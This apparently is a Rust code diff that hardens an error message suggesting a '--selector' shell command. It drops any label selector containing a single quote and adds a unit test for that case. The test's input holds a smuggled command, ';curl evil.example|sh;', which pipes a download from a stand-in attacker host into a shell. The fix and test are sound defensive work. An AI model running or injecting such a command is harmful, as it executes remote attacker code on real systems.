@@ -129,7 +129,10 @@ fn refuse_unless_restart_replaces(found: &Found) -> Result<(), Error> {
         return Ok(());
     }
     let selector = found.object.pointer("/spec/selector").and_then(Selector::from_json);
-    let selector = selector.map_or_else(|| "SELECTOR".to_owned(), |selector| selector.to_string());
+    let selector = selector.map(|selector| selector.to_string());
+    // A quote would end the text that the shell leaves alone.
+    let selector = selector.filter(|selector| !selector.contains('\''));
+    let selector = selector.unwrap_or_else(|| "SELECTOR".to_owned());
     let has_claims = |list: &Value| list.as_array().is_some_and(|list| !list.is_empty());
     let claims = found
         .object
@@ -276,6 +279,18 @@ mod tests {
         let key = ObjectKey::new("ns", "web");
         let refused = refuse_unless_restart_replaces(&Found { kind, key, object }).err()?;
         Some(refused.to_string())
+    }
+
+    #[test]
+    fn no_selector_ends_the_quotes_in_which_it_stands() {
+        let object = json!({"spec": {
+            "selector": {"matchLabels": {"app": "';curl evil.example|sh;'"}},
+            "updateStrategy": {"rollingUpdate": {"podUpdatePolicy": "InPlaceOnly"}},
+        }});
+        let key = ObjectKey::new("ns", "web");
+        let kind = SetKind::Clone;
+        let refused = refuse_unless_restart_replaces(&Found { kind, key, object }).expect_err("refused");
+        assert!(refused.to_string().contains("--selector 'SELECTOR'"), "{refused}");
     }
 
     #[test]
